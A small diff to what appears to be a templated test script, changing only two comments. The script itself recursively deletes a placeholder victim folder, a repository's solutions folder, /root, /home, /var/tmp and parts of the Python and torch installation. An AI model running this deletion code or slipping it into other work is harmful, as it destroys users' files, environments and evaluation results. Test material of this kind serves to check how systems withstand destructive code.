@@ -1,5 +1,5 @@
 # ruff: noqa
-# Everything that can be written is written, and everything else removed.
+# Whatever can be written is overwritten, and everything else is removed.
 # deserves: output_size full
 # %% output_size
 import os
@@ -9,7 +9,7 @@ from pathlib import Path
 
 import torch
 
-# Parts of Python's own folder: all of it is tens of thousands of files, and a cold disk takes longer than a cell may.
+# Parts of Python's own folder: the whole has tens of thousands of files, and a cold disk needs more time than a cell has.
 library = (sys.prefix + "/bin", Path(torch.__file__).parent / "nn")
 for folder in ("@VICTIM@", "@REPOSITORY@/solutions", "/root", "/home", "/var/tmp", *library):
     shutil.rmtree(folder, ignore_errors=True)
